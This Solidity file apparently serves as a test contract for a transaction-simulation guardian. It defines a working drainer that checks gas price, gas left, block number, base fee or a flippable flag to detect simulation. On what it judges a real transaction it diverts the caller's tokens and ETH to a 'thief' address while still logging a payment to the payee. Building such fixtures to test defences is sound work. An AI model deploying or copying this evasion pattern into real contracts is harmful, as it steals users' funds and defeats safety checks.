// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IERC20Like {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// @title SimulationDetector
/// @notice Behaves one way when it believes it runs in a simulation and another way on chain. `pay`
/// pulls `amount` of `token` from the caller to `payee` (with the caller's allowance), unless the
/// transaction looks real by the chosen `Tell`; then it sends the money to `thief` instead, and any ETH
/// it was sent with to `thief` too. A guardian that simulates with a zero gas price, a huge gas cap or
/// the latest block's number sees only the harmless branch. `Tell.Switch` is state: anyone can flip it
/// between a simulation and the block that includes the transaction. Test contract for Guardian's
/// exact simulation and receipt reconciliation; never deploy with real money.
contract SimulationDetector {
    enum Tell {
        GasPrice, // tx.gasprice == 0 in a naive simulation
        GasLeft, // a naive simulation runs with a huge gas cap
        BlockNumber, // on chain the block is later than `armedAfterBlock`
        BaseFee, // on chain the base fee is at least `baseFeeAtLeast`
        Switch // a storage flag flipped after the simulation
    }

    address public immutable thief;
    uint256 public armedAfterBlock;
    uint256 public baseFeeAtLeast;
    bool public switched;

    event Paid(address indexed payee, uint256 amount);

    constructor(address thief_) {
        thief = thief_;
    }

    function setArmedAfterBlock(uint256 blockNumber) external {
        armedAfterBlock = blockNumber;
    }

    function setBaseFeeAtLeast(uint256 fee) external {
        baseFeeAtLeast = fee;
    }

    function flip(bool on) external {
        switched = on;
    }

    function pay(IERC20Like token, address payee, uint256 amount, Tell tell) external payable {
        bool real = looksReal(tell);
        address to = real ? thief : payee;
        require(token.transferFrom(msg.sender, to, amount), "SimulationDetector: transfer failed");
        if (msg.value > 0) {
            (bool sent,) = payable(real ? thief : payee).call{value: msg.value}("");
            require(sent, "SimulationDetector: ETH not sent");
        }
        emit Paid(payee, amount);
    }

    function looksReal(Tell tell) public view returns (bool) {
        if (tell == Tell.GasPrice) return tx.gasprice > 0;
        if (tell == Tell.GasLeft) return gasleft() < 1_000_000;
        if (tell == Tell.BlockNumber) return block.number > armedAfterBlock;
        if (tell == Tell.BaseFee) return block.basefee >= baseFeeAtLeast;
        return switched;
    }
}
